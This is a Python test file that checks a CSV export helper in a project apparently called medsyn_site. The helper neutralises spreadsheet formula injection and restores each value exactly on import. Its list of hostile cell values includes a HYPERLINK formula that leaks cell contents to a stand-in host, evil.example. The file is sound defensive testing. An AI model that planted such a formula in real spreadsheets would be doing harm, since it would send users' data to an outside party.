"""CSV formula injection: a cell a spreadsheet would run is neutralised on export and restored, exactly, on import."""

from __future__ import annotations

import csv
import io

import pytest

from medsyn_site.core.spreadsheet import csv_cell_restore, csv_cell_safe, csv_row_safe

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1, "click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_trigger_is_written_as_text(value):
    assert csv_cell_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Жалобы на кашель", "", "a=b", " =x", "'quoted'", "1.5", "O'Brien"])
def test_ordinary_text_is_unchanged(value):
    assert csv_cell_safe(value) == value


def test_numbers_booleans_and_none_pass_unchanged():
    assert csv_row_safe([-1, 2.5, True, None, "-x"]) == [-1, 2.5, True, None, "'-x"]


@pytest.mark.parametrize("value", [*HOSTILE, "'=already quoted", "''+x", "'plain", "plain", "", "'"])
def test_restore_undoes_safe_exactly_through_a_real_csv_file(value):
    buffer = io.StringIO()
    csv.writer(buffer).writerow([csv_cell_safe(value)])
    [read] = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert csv_cell_restore(read[0]) == value
